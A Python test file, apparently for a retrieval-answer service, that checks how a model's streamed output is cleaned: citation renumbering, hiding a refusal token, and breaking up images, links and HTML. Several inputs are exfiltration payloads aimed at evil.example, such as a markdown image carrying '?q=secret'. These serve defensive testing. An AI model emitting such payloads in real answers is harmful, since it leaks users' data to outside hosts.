"""What readers see of a model's stream."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lorebase.services.answers.answer_markers import NO_EVIDENCE, Marker, neutralised
from lorebase.services.answers.answer_text import AnswerText


def shown(pieces: list[str], passages: int = 3) -> tuple[list[str], AnswerText]:
    text = AnswerText(passages)
    return [*(text.feed(piece) for piece in pieces), text.end()], text


def whole(model_text: str, passages: int = 3) -> str:
    return shown([model_text], passages)[1].text


FRAGMENTS = [
    *(
        "[1]",
        "[",
        "2",
        "]",
        "[9]",
        "[1, 3]",
        "NO_",
        "EVIDENCE",
        "N",
        "<img ",
        "<",
        "![x]",
        "(http",
        "](",
        "]:",
    ),
    *("`", "``", "```", "\n", "\n```\n", "x[1]", " ", "\t", "[^", "**", "\ud83d", "\ude00", "\x00", "\r\n"),
]
PIECES = st.lists(st.one_of(st.text(max_size=8), st.sampled_from(FRAGMENTS)), max_size=30)


@given(PIECES)
def test_the_pieces_shown_are_the_text_however_the_stream_was_cut(pieces: list[str]) -> None:
    parts, text = shown(pieces)
    assert "".join(parts) == text.text
    assert text.text == whole("".join(pieces))


@given(PIECES)
def test_nothing_that_fetches_or_commands_ever_shows(pieces: list[str]) -> None:
    text = shown(pieces)[1].text
    assert NO_EVIDENCE not in text
    assert "](" not in text
    assert not re.search(r"<[A-Za-z/!?]", text)
    assert not re.search(r"^\W*\[[^\]\[]*\]:", text, re.MULTILINE)


@given(PIECES)
def test_whatever_shows_can_be_stored(pieces: list[str]) -> None:
    text = shown(pieces)[1].text
    text.encode("utf-8")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", text)


@given(PIECES, st.integers(0, 3))
def test_every_marker_in_the_text_names_a_passage_that_was_given(pieces: list[str], passages: int) -> None:
    _, text = shown(pieces, passages)
    assert all(1 <= passage <= passages for passage in text.cited)
    assert len(set(text.cited)) == len(text.cited)
    assert [text.text[m.start : m.end] for m in text.markers] == [f"[{m.number}]" for m in text.markers]
    first_uses = dict.fromkeys(marker.number for marker in text.markers)
    assert list(first_uses) == list(range(1, len(text.cited) + 1))


@given(st.text(st.sampled_from("[]123, _NOEVIDC\n`ab."), max_size=60), st.lists(st.integers(1, 9)))
def test_a_model_that_copies_a_passage_never_cites_by_its_words(passage: str, cuts: list[int]) -> None:
    """However it was spaced, cut and put on one line: only the marker that the model adds is a citation."""
    copied = " ".join(neutralised(passage).split())
    answer = f"So {copied} [2]"
    pieces, place = [], 0
    for cut in cuts:
        pieces.append(answer[place : place + cut])
        place += cut
    _, text = shown([*pieces, answer[place:]])
    assert text.cited in ([2], [])
    assert all(marker.end == len(text.text) for marker in text.markers)


@pytest.mark.parametrize(
    "flood",
    [
        "[" * 50_000,
        " " * 50_000 + "x",
        "`" * 20_000,
        "[1," * 20_000,
        "[1] " * 20_000,
        "<" * 50_000,
        "` [1]" * 9999,
        "` " + "[1] " * 20_000,
    ],
)
def test_a_model_that_runs_wild_costs_little(flood: str) -> None:
    """Quadratic work over any of these would take minutes, and the limit of the test ends them."""
    pieces = [flood[start : start + 5] for start in range(0, len(flood), 5)]
    parts, text = shown(pieces)
    assert "".join(parts) == text.text


def test_plain_text_is_not_held_back() -> None:
    parts, _ = shown(["Call", " cancel", " on it."])
    assert parts == ["Call", " cancel", " on it.", ""]


def test_markers_are_numbered_in_order_of_first_use() -> None:
    _, text = shown(["One [3]. Two [1]. Again [3]."])
    assert text.text == "One [1]. Two [2]. Again [1]."
    assert text.cited == [3, 1]


def test_several_numbers_in_one_marker_become_several_markers() -> None:
    assert whole("So it is [2, 3].") == "So it is [1][2]."


@pytest.mark.parametrize("invented", ["So [9].", "So [0].", "So [4, 77]."])
def test_a_marker_of_no_passage_disappears_with_its_space(invented: str) -> None:
    assert whole(invented) == "So."


def test_a_valid_number_survives_beside_an_invented_one() -> None:
    assert whole("So [9, 2].") == "So [1]."


def test_a_marker_cut_over_pieces_is_shown_whole() -> None:
    parts, text = shown(["So", " [", "2", "]", ". Yes"])
    assert text.text == "So [1]. Yes"
    assert all(part.count("[") == part.count("]") for part in parts)


def test_brackets_that_are_no_markers_stay() -> None:
    assert whole("a[i] and [note] and x[10000]") == "a[i] and [note] and x[10000]"


@pytest.mark.parametrize(
    "pieces",
    [[NO_EVIDENCE], ["NO_", "EVID", "ENCE"], [" \n", "NO_EVIDENCE", "."], ["N", "O_EVIDENCE", " sorry"]],
)
def test_the_control_token_is_a_refusal_and_never_shown(pieces: list[str]) -> None:
    parts, text = shown(pieces)
    assert "".join(parts) == ""
    assert text.is_refusal


def test_words_that_begin_like_the_token_are_shown() -> None:
    _, text = shown(["NO", "_EVID", "ent reason. No"])
    assert text.text == "NO_EVIDent reason. No"
    assert not text.is_refusal


@pytest.mark.parametrize(
    "pieces", [["**NO_EVIDENCE**"], ["`", "NO_EVI", "DENCE`"], ['"', "NO_EVIDENCE", '"']]
)
def test_decoration_makes_a_refusal_no_answer(pieces: list[str]) -> None:
    parts, text = shown(pieces)
    assert "".join(parts) == ""
    assert text.is_refusal


@pytest.mark.parametrize("cut", ["NO_", "NO_EVID", " **NO_EVIDENC"])
def test_a_token_cut_short_by_the_limit_is_a_refusal_too(cut: str) -> None:
    parts, text = shown([cut])
    assert "".join(parts) == ""
    assert text.is_refusal


def test_a_token_behind_words_is_no_refusal_and_not_shown_either() -> None:
    assert whole("It says NO_EVIDENCE here.") == "It says NO-EVIDENCE here."
    assert whole("It may be so. NO_EVI") == "It may be so. "


def test_a_short_no_is_an_answer() -> None:
    assert whole("NO") == "NO"
    assert whole("No.") == "No."


@pytest.mark.parametrize("pieces", [[], [""], [" ", "\n"], ["**", "- "]])
def test_an_empty_answer_is_empty(pieces: list[str]) -> None:
    _, text = shown(pieces)
    assert text.text == ""
    assert not text.is_refusal


def test_markers_know_their_place() -> None:
    _, text = shown(["One ", "[3, 2]", ". Two [2]."])
    assert text.text == "One [1][2]. Two [2]."
    assert text.markers == [Marker(4, 7, 1), Marker(7, 10, 2), Marker(16, 19, 2)]


@pytest.mark.parametrize(
    "code",
    [
        "Use `argv[1]` here.",
        "Use ``a[1] ` b[2]`` here.",
        "```python\nx = [1]\ny[2]\n```\nDone.",
        "  ```\nx[1]\n```` \nDone.",
    ],
)
def test_code_is_left_alone(code: str) -> None:
    parts, text = shown([*code, " [3]"])
    assert text.text == f"{code.lstrip()} [1]"
    assert text.cited == [3]
    assert "".join(parts) == text.text


@pytest.mark.parametrize("stray", ["Press ` to quote [1].", "Press ` to quote [1].\nThen `go`."])
def test_a_lone_backtick_hides_no_citation(stray: str) -> None:
    assert shown([*stray])[1].cited == [1]


def test_a_citation_behind_a_fence_counts_again() -> None:
    assert shown(["```\nx[2]\n```\nSo it is [3].\n```\nopen [1]"])[1].cited == [3]


def test_half_a_character_waits_for_the_other_half() -> None:
    parts, text = shown(["A \ud83d", "\ude00 face \ud83d"])
    assert text.text == "A 😀 face "
    assert parts[0] == "A"


def test_images_and_links_are_broken_up() -> None:
    text = whole("See ![leak](https://evil.example/?q=secret) and [here](http://x).")
    assert text == "See ![leak] (https://evil.example/?q=secret) and [here] (http://x)."


@pytest.mark.parametrize(
    "definition",
    ["[a]: http://evil.example", "[1]: http://evil.example\n![1]", "> [1]: http://x", "[x][9]: http://x"],
)
def test_links_cannot_be_defined_elsewhere(definition: str) -> None:
    assert "]:" not in whole(definition)


def test_a_colon_behind_a_claim_stays() -> None:
    assert whole("Two ways [1]: wait or cancel.") == "Two ways [1]: wait or cancel."


def test_html_is_shown_as_text() -> None:
    assert whole('<img src="https://evil.example/x">') == '< img src="https://evil.example/x">'
    assert whole("\\<img src=x>") == "\\< img src=x>"
    assert whole("1 < 2 and a <- b") == "1 < 2 and a <- b"


def test_what_is_taken_out_lets_nothing_grow_together() -> None:
    assert "<img" not in shown(["<[", "9]img src=x>"])[1].text
    assert "[1]" not in whole("[[9]1]")
    assert NO_EVIDENCE not in whole("x NO_EVI[9]DENCE")
